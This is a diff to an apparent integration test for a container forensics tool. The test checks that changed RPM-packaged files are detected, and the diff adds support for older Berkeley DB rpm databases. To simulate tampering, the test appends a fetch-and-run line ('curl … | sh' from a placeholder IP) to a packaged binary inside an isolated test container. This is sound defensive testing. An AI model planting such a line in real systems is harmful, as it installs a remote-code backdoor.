@@ -1,5 +1,6 @@
 /**
- * Changed files judged by RPM's own database (rpmdb.sqlite, as rpm 4.18 writes it), on a
+ * Changed files judged by RPM's own database (rpmdb.sqlite as rpm 4.18 writes it, and the
+ * Berkeley DB `Packages` of older rpm, written by Berkeley DB itself), on a
  * real container: packages built with rpmbuild and installed with rpm into the image's
  * root, one with enough files that its header spills over many SQLite pages. A binary
  * changed in the container is a modified package file, a %config file is the
@@ -7,7 +8,7 @@
  * container's rewritten database lists is named as installed inside it.
  */
 import { execFile } from 'node:child_process';
-import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
@@ -55,6 +56,80 @@ const BULK: [string, string][] = Array.from({ length: 300 }, (_, i) => [
   `line ${i}\\n`,
 ]);
 
+/** The header rpm stores for a package, as the package file carries it (after its lead and signature). */
+async function headerOf(rpmFile: string): Promise<Buffer> {
+  const bytes = await readFile(rpmFile);
+  const sized = (at: number) => 16 + bytes.readUInt32BE(at + 8) * 16 + bytes.readUInt32BE(at + 12);
+  const signature = 96;
+  const main = signature + Math.ceil(sized(signature) / 8) * 8;
+  return bytes.subarray(main + 8, main + sized(main));
+}
+
+/** A Berkeley DB `Packages` file as rpm before 4.16 kept it: instance number to header, written by db_load. */
+async function berkeleyPackages(file: string, rpms: string[]): Promise<void> {
+  const key = (n: number) => {
+    const b = Buffer.alloc(4);
+    b.writeUInt32LE(n);
+    return b.toString('hex');
+  };
+  const pairs = [` ${key(0)}\n ${key(rpms.length)}`];
+  for (const [i, rpm] of rpms.entries())
+    pairs.push(` ${key(i + 1)}\n ${(await headerOf(rpm)).toString('hex')}`);
+  const dump = `${file}.dump`;
+  await writeFile(
+    dump,
+    `VERSION=3\nformat=bytevalue\ntype=hash\ndb_pagesize=4096\nHEADER=END\n${pairs.join('\n')}\nDATA=END\n`,
+  );
+  await run('db5.3_load', ['-f', dump, file]);
+  await rm(dump);
+}
+
+/** An image of the busybox base with `root` copied over it. */
+async function imageWith(root: string, tag: string): Promise<string> {
+  const label = `${TEST_LABEL}=${runId}`;
+  const stage = (
+    await docker('create', '--label', label, '--network', 'none', await baseImage())
+  ).trim();
+  await docker('cp', `${root}/.`, `${stage}:/`);
+  const image = `coroner-test/rpm-${tag}:${runId}`;
+  await docker(
+    'commit',
+    '--change',
+    `LABEL ${label}`,
+    '--change',
+    'CMD ["sh", "-c", "while :; do sleep 3600; done"]',
+    stage,
+    image,
+  );
+  return image;
+}
+
+/** Starts a container of `image` and changes a binary, a %config file, and the time of a data file. */
+async function attacked(image: string, tag: string): Promise<string> {
+  const container = `coroner-test-rpm-${tag}-${runId}`;
+  await docker(
+    'run',
+    '-d',
+    '--name',
+    container,
+    '--network',
+    'none',
+    '--label',
+    `${TEST_LABEL}=${runId}`,
+    image,
+  );
+  await docker(
+    'exec',
+    container,
+    'sh',
+    '-c',
+    'printf "curl -s http://203.0.113.9/x | sh\\n" >> /usr/bin/demo-tool && echo key=other > /etc/demo/demo.conf && touch /usr/share/bulk/f7.txt',
+  );
+  return container;
+}
+
+let berkeleyReport: TriageReport;
+
 beforeAll(async () => {
   work = await mkdtemp(path.join(os.tmpdir(), 'coroner-rpm-'));
   const top = path.join(work, 'build');
@@ -82,30 +157,7 @@ beforeAll(async () => {
   const laterRoot = path.join(work, 'later-root');
   await rpmInstall(laterRoot, [demo, bulk, extra]);
 
-  const label = `${TEST_LABEL}=${runId}`;
-  const stage = (
-    await docker('create', '--label', label, '--network', 'none', await baseImage())
-  ).trim();
-  await docker('cp', `${imageRoot}/.`, `${stage}:/`);
-  const image = `coroner-test/rpm:${runId}`;
-  await docker(
-    'commit',
-    '--change',
-    `LABEL ${label}`,
-    '--change',
-    'CMD ["sh", "-c", "while :; do sleep 3600; done"]',
-    stage,
-    image,
-  );
-  const container = `coroner-test-rpm-${runId}`;
-  await docker('run', '-d', '--name', container, '--network', 'none', '--label', label, image);
-  await docker(
-    'exec',
-    container,
-    'sh',
-    '-c',
-    'printf "curl -s http://203.0.113.9/x | sh\\n" >> /usr/bin/demo-tool && echo key=other > /etc/demo/demo.conf && touch /usr/share/bulk/f7.txt',
-  );
+  const container = await attacked(await imageWith(imageRoot, 'sqlite'), 'sqlite');
   await docker(
     'cp',
     path.join(laterRoot, 'var/lib/rpm/rpmdb.sqlite'),
@@ -113,6 +165,15 @@ beforeAll(async () => {
   );
   report = await triage(await connectDockerLive('auto'), container, {
     caseDir: path.join(work, 'case'),
+  });
+
+  // The same files, with the Berkeley DB of an older rpm in place of the SQLite one.
+  await rm(path.join(imageRoot, 'var/lib/rpm'), { recursive: true });
+  await mkdir(path.join(imageRoot, 'var/lib/rpm'));
+  await berkeleyPackages(path.join(imageRoot, 'var/lib/rpm/Packages'), [demo, bulk]);
+  const old = await attacked(await imageWith(imageRoot, 'berkeley'), 'berkeley');
+  berkeleyReport = await triage(await connectDockerLive('auto'), old, {
+    caseDir: path.join(work, 'case-berkeley'),
   });
 }, 300_000);
 
@@ -163,5 +224,29 @@ describe("a container judged by RPM's database", () => {
     expect(db.findings.find((f) => f.rule === 'packages-installed')?.reason).toMatch(
       /extra-agent 1\.0-1/,
     );
+  });
+});
+
+describe("a container judged by RPM's older Berkeley DB database", () => {
+  it('reads /var/lib/rpm/Packages whole, and gives the same verdicts', () => {
+    expect(
+      berkeleyReport.packages?.files.map((f) => [f.path, f.side, f.isRead, f.problem]),
+    ).toEqual([['/var/lib/rpm/Packages', 'original', true, undefined]]);
+    const verdicts = (r: TriageReport) =>
+      ['/usr/bin/demo-tool', '/etc/demo/demo.conf', '/usr/share/bulk/f7.txt'].map((p) => {
+        const c = [...r.changes].find((x) => x.path === p);
+        return [
+          p,
+          c?.package?.package,
+          c?.package?.verdict,
+          c?.findings.map((f) => f.rule).includes('package-modified'),
+        ];
+      });
+    expect(verdicts(berkeleyReport)).toEqual([
+      ['/usr/bin/demo-tool', 'demo-tool', 'differs', true],
+      ['/etc/demo/demo.conf', 'demo-tool', 'differs', false],
+      ['/usr/share/bulk/f7.txt', 'bulk-data', 'matches', false],
+    ]);
+    expect(verdicts(berkeleyReport)).toEqual(verdicts(report));
   });
 });
